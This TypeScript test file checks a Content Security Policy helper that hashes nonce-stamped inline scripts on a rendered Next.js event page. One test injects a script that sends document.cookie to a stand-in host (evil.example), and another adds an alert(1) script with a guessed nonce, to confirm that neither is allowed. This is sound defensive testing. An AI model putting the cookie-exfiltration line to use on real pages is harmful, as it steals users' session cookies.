// The hashes a cached page's policy allows, checked on a page as the app really renders it
// (fixtures/event-page.html: /events/<id> from `next start`, saved with its render's nonce) and on
// the injections the policy exists to refuse.
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { cspHash, hashNoncedInline, withoutNonce } from "./inline-hashes";

const RENDERED = readFileSync(new URL("./fixtures/event-page.html", import.meta.url), "utf8");
const NONCE = /<script[^>]*\snonce="([^"]+)"/.exec(RENDERED)![1];

/** Every inline script of a page as the browser reads it, hashed independently of the code under test. */
const inlineScripts = (html: string) =>
  [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)]
    .filter(([, attributes]) => !/\ssrc=/i.test(attributes))
    .map(([, , body]) => body);
const sha256 = (text: string) => `sha256-${createHash("sha256").update(text).digest("base64")}`;

describe("hashes of a rendered page's inline scripts", () => {
  it("cover every inline script of a real page, and only those", () => {
    const scripts = inlineScripts(RENDERED);
    expect(scripts.length).toBeGreaterThanOrEqual(3); // Next's bootstrap and its flight data
    const { body, hashes } = hashNoncedInline(RENDERED, NONCE);
    expect(new Set(hashes.scripts)).toEqual(new Set(scripts.map(sha256)));
    // The page as sent is the page hashed: its scripts are byte for byte those hashed.
    expect(new Set(inlineScripts(body).map(sha256))).toEqual(new Set(hashes.scripts));
    expect(hashes.styles).toEqual([]);
  });

  it("drop the nonce from every tag, and change nothing else", () => {
    const { body } = hashNoncedInline(RENDERED, NONCE);
    expect(body).not.toMatch(/<[a-z][^>]*\snonce=/i);
    expect(body).toBe(RENDERED.replaceAll(` nonce="${NONCE}"`, ""));
  });

  it("do not cover a script injected into the page without the render's nonce", () => {
    const injected = RENDERED.replace(
      "</body>",
      "<script>fetch('https://evil.example/?c='+document.cookie)</script></body>",
    );
    const { body, hashes } = hashNoncedInline(injected, NONCE);
    expect(body).toContain("<script>fetch('https://evil.example/");
    expect(hashes.scripts).not.toContain(sha256("fetch('https://evil.example/?c='+document.cookie)"));
    expect(hashes.scripts).toEqual(hashNoncedInline(RENDERED, NONCE).hashes.scripts);
  });

  it("do not cover a script carrying a guessed nonce, or any text but a stamped script's exact text", () => {
    const guessed = RENDERED.replace("</body>", `<script nonce="${NONCE.slice(0, -1)}A">alert(1)</script></body>`);
    expect(hashNoncedInline(guessed, NONCE).hashes.scripts).not.toContain(sha256("alert(1)"));
    const [first] = inlineScripts(RENDERED);
    expect(hashNoncedInline(RENDERED, NONCE).hashes.scripts).not.toContain(sha256(`${first};alert(1)`));
  });

  it("hash nonced inline styles for style-src, and skip external scripts", () => {
    const html = `<style nonce="n1">.a{color:red}</style><script src="/_next/static/x.js" nonce="n1"></script><STYLE>.b{}</STYLE>`;
    const { body, hashes } = hashNoncedInline(html, "n1");
    expect(hashes).toEqual({ scripts: [], styles: [sha256(".a{color:red}")] });
    expect(body).toBe(`<style>.a{color:red}</style><script src="/_next/static/x.js"></script><STYLE>.b{}</STYLE>`);
  });

  it("hash the text the browser sees: CR LF read as LF, UTF-8", () => {
    expect(cspHash("a\r\nb\rc")).toBe(sha256("a\nb\nc"));
    expect(cspHash("“é”")).toBe(sha256("“é”"));
  });

  it("take the nonce out of a Link header's preload hints", () => {
    expect(withoutNonce(`</a.css>; rel=preload; as="style"; nonce="n+1/"`, "n+1/")).toBe(
      `</a.css>; rel=preload; as="style"`,
    );
  });
});
